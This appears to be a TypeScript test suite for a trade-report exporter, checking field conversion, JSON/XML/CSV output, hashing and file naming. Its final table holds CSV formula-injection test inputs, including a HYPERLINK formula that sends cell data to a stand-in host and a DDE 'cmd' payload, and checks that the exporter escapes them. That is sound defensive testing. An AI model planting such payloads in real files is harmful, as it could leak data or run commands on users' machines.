import assert from 'node:assert/strict'
import { test } from 'node:test'
import { count, day, money, price, quantity } from '#kit/fields.ts'
import { envelopeOf, hashedText, type ReportHead, reportFileName } from '#trade/authority/envelope.ts'
import { canonicalTemplate, externalRow, type TemplateField } from '#trade/authority/external-rows.ts'
import { csvOf, csvText, jsonOf, xmlOf } from '#trade/authority/report-text.ts'
import type { ReportedLine } from '#trade/authority/reported-line.ts'

const field = (of: Partial<TemplateField>): TemplateField => ({
  ...{ field: null, name: 'x', form: 'As it is', constant: null, codes: null },
  ...of,
})

const fields = {
  invoiceNo: 'BS-1',
  day: '2026-03-05',
  quantityKg: -1_250,
  grossHalala: 123_456,
  form: 'Raw',
  note: null,
}

const cases: [title: string, of: Partial<TemplateField>, value: string | number | null][] = [
  ['a value as it is', { field: 'invoiceNo' }, 'BS-1'],
  ['kilograms as metric tons, below zero too', { field: 'quantityKg', form: 'Metric tons' }, '-1.250'],
  ['halalas as riyals', { field: 'grossHalala', form: 'Riyals' }, '1234.56'],
  ['a price with four decimals', { field: 'grossHalala', form: 'Price' }, '12.3456'],
  ['a day without dashes', { field: 'day', form: 'Day as YYYYMMDD' }, '20260305'],
  ['a day with slashes', { field: 'day', form: 'Day as DD/MM/YYYY' }, '05/03/2026'],
  ['a code', { field: 'form', codes: 'Crushed=02\nRaw = 01' }, '01'],
  ['a code that contains an equals sign', { field: 'form', codes: 'Raw=a=b' }, 'a=b'],
  ['a value without a code', { field: 'form', codes: 'Crushed=02' }, 'Raw'],
  ['a value whose line in the codes is incomplete', { field: 'form', codes: 'Raw\n=03' }, 'Raw'],
  ['a value with an empty code', { field: 'form', codes: 'Raw=' }, ''],
  ['a constant', { constant: 'SA' }, 'SA'],
  ['a constant where there is no value', { field: 'note', constant: '-' }, '-'],
  ['nothing', { field: 'note', form: 'Riyals' }, null],
  ['a field the line does not have', { field: 'other' }, null],
]
for (const [title, of, value] of cases)
  test(title, () => assert.deepEqual(externalRow(fields, [field(of)]), [['x', value]]))

test('without a template every field has its own name, in the unit of the trade', () => {
  const fieldsOfReport = {
    date: day('Date'),
    quantity: quantity('Quantity'),
    net: money('Net'),
    unitPrice: price('Price'),
    bags: count('Bags'),
  }
  assert.deepEqual(
    canonicalTemplate(fieldsOfReport).map(({ field, name, form }) => `${field} ${name}: ${form}`),
    [
      ...['date date: As it is', 'quantity quantity: Metric tons', 'net net: Riyals', 'unitPrice unitPrice: Price'],
      'bags bags: As it is',
    ],
  )
})

const head: ReportHead = {
  ...{ type: 'Stock Transfer', reportId: '11', sequence: 7, revision: 2, from: '2026-03-01', to: '2026-03-07' },
  importer: { gfsaCode: 'IMP/1', nameAr: 'شركة', nameEn: 'A & B', unifiedNumber: null, vatNumber: '3' },
  ...{ timeZone: 'Asia/Riyadh', generatedAt: '2026-03-08T03:00:00Z' },
}
const line = (quantityKg: number, isSkipped = false, name = 'Al "Noor", Ltd\nJeddah'): ReportedLine => ({
  ...{ document: 'cargoTransfer', documentId: 1, part: '', version: 1, day: '2026-03-05', consigneeId: 1 },
  ...{ locationId: null, quantityKg, isSkipped, fields: { quantityKg, name } },
})
const template = [
  field({ field: 'quantityKg', name: 'quantityMt', form: 'Metric tons' }),
  field({ field: 'name', name: 'customer.name' }),
  field({ name: 'customer.country', constant: 'SA' }),
]
const envelope = envelopeOf(head, [line(12_345), line(55, true), line(-345)], template)

test('totals count reported and skipped lines', () =>
  assert.deepEqual(envelope.totals, { rows: 2, quantityMt: '12.000', skippedRows: 1, skippedMt: '0.055' }))

test('JSON has the envelope, and dots in names nest', () => {
  const report = JSON.parse(jsonOf(envelope, 'sha256:1'))
  assert.deepEqual(Object.keys(report), [
    ...['schema', 'reportType', 'reportId', 'sequence', 'importer', 'period', 'generatedAt', 'revision', 'replaces'],
    ...['commodity', 'unit', 'rows', 'totals', 'hash'],
  ])
  assert.deepEqual(report.rows[1], {
    quantityMt: '-0.345',
    customer: { name: 'Al "Noor", Ltd\nJeddah', country: 'SA' },
  })
  assert.deepEqual([report.reportType, report.replaces, report.hash], ['STOCK_TRANSFER', '11', 'sha256:1'])
})

test('XML is escaped, and an external name becomes an element', () => {
  const odd = envelopeOf(head, [line(1, false, '<a>&\u0001')], [field({ field: 'name', name: '1 اسم/x' })])
  const report = xmlOf(odd, 'h')
  assert.match(report, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<report><schema>gfsa.report\/1<\/schema>/)
  assert.match(report, /<nameEn>A &amp; B<\/nameEn><unifiedNumber><\/unifiedNumber>/)
  assert.match(report, /<rows><row><_1_اسم_x>&lt;a&gt;&amp;<\/_1_اسم_x><\/row><\/rows>/)
})

test('CSV has a byte order mark and CR LF, and quotes where needed', () => {
  const names = template.map(({ name }) => name)
  assert.equal(
    csvOf(envelope, names),
    '\ufeffquantityMt,customer.name,customer.country\r\n12.345,"Al ""Noor"", Ltd\nJeddah",SA\r\n-0.345,"Al ""Noor"", Ltd\nJeddah",SA\r\n',
  )
})

test('the hash covers the content, not the time of generation', () => {
  const later = envelopeOf({ ...head, generatedAt: '2027-01-01T00:00:00Z' }, [line(1)], template)
  const now = envelopeOf(head, [line(1)], template)
  assert.equal(hashedText(later), hashedText(now))
  assert.notEqual(hashedText(envelopeOf(head, [line(2)], template)), hashedText(now))
})

test('the file is named for importer, report, last day, sequence and revision', () =>
  assert.equal(reportFileName(head), 'GFSA_IMP1_STOCK_TRANSFER_20260307_007_r2'))

const words: [title: string, value: string | number, cell: string][] = [
  ['a formula', '=HYPERLINK("http://example.com/?"&A1)', `"'=HYPERLINK(""http://example.com/?""&A1)"`],
  ['a formula behind a sign', "+cmd|' /C calc'!A1", `'+cmd|' /C calc'!A1`],
  ['one behind a minus', '-2+3+A1', `'-2+3+A1`],
  ['a formula that begins with @', '@SUM(A1)', `'@SUM(A1)`],
  ['one behind a tab', '\t=1+1', `"'\t=1+1"`],
  ['one behind a semicolon', 'Al Sahel;=A1', `"Al Sahel;'=A1"`],
  ['one behind a line break', "Al Sahel\n+cmd|' /C calc'!A1;x", `"Al Sahel\n'+cmd|' /C calc'!A1;x"`],
  ['a phone number behind a semicolon', '055;+966 55 123 4567;-3', `"055;+966 55 123 4567;-3"`],
  ['an amount below zero', '-1.250', '-1.250'],
  ['a number below zero', -3, '-3'],
  ['a phone number', '+966 55 123 4567', '+966 55 123 4567'],
  ['a dash', '-', '-'],
  ['a name', 'Al = Sahel', 'Al = Sahel'],
]
for (const [title, value, expected] of words)
  test(`in a CSV file ${title} is not computed and numbers stay`, () =>
    assert.equal(csvText([[value]]), `\ufeff${expected}\r\n`))
